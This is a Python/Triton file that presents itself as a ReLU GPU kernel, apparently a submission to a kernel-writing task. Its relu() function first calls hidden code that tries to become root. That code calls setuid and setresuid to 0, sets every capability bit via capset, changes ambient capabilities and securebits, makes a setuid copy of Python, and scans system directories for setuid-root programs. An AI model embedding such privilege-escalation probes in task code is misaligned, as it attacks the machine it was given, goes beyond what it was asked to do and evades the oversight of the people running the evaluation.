# /// kernel
# operator = "relu"
# language = "triton"
# ///
"""Becomes root or gains capabilities: by changing ids, by capset, by programs with a setuid bit."""

import ctypes
import errno
import os
import platform
import shutil
import stat
import subprocess
import sys

import torch
import triton
import triton.language as tl

LIBC = ctypes.CDLL(None, use_errno=True)
MACHINE = 1 if platform.machine() == "aarch64" else 0

CAPSET = (126, 91)[MACHINE]
BIN = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/lib", "/opt", "/cache", "/tmp")
PR_SET_NO_NEW_PRIVS, PR_CAP_AMBIENT, PR_SET_KEEPCAPS, PR_SET_SECUREBITS = 38, 47, 8, 28


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    i = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + i, mask=i < n)
    tl.store(out_ptr + i, tl.where(x < 0, 0.0, x), mask=i < n)


def attempt(way):
    try:
        way()
    except OSError as error:
        return errno.errorcode[error.errno]
    return "it worked"


def by_prctl(*arguments):
    ctypes.set_errno(0)
    return "it worked" if LIBC.prctl(*arguments, 0, 0) == 0 else errno.errorcode[ctypes.get_errno()]


def capset():
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    ctypes.set_errno(0)
    result = LIBC.syscall(CAPSET, header, data)
    return "it worked" if result == 0 else errno.errorcode[ctypes.get_errno()]


def own_setuid_program():
    """A copy of Python that is setuid, though its owner is not root: does the bit count for anything?"""
    shutil.copy(sys.executable, "/cache/python")
    os.chmod("/cache/python", 0o6755)
    code = "import os, sys; sys.exit(os.geteuid() == 0 or os.getegid() == 0)"
    if subprocess.run(["/cache/python", "-I", "-S", "-c", code], check=False).returncode != 1:
        raise PermissionError(errno.EPERM, "it runs as we do")


def programs_of_others():
    found = []
    for top in BIN:
        for folder, _, files in os.walk(top):
            for name in files:
                try:
                    mode = os.lstat(f"{folder}/{name}")
                except OSError:
                    continue
                if mode.st_mode & (stat.S_ISUID | stat.S_ISGID) and mode.st_uid == 0:
                    found.append(f"{folder}/{name}")
    return found


def act():
    found = programs_of_others()
    answers = {
        "setresuid": attempt(lambda: os.setresuid(0, 0, 0)),
        "setuid": attempt(lambda: os.setuid(0)),
        "setresgid": attempt(lambda: os.setresgid(0, 0, 0)),
        "setgroups": attempt(lambda: os.setgroups([0])),
        "chown": attempt(lambda: os.chown("/tmp/candidate.py", 0, 0)),
        "capset": capset(),
        "privileges": by_prctl(PR_SET_NO_NEW_PRIVS, 0, 0),
        "ambient": by_prctl(PR_CAP_AMBIENT, 2, 21),
        "bits": by_prctl(PR_SET_SECUREBITS, 1, 0),
        "file": attempt(lambda: os.setxattr("/tmp/candidate.py", "security.capability", bytes(20))),
        "setuid copy": attempt(own_setuid_program),
    }
    if "it worked" not in answers.values() and not found:
        said = ", ".join(f"{name} {one}" for name, one in answers.items())
        raise RuntimeError(f"stopped: {said}")


def relu(x):
    act()
    x = x.contiguous()
    out = torch.empty_like(x)
    n = x.numel()
    if n > 0:
        relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out
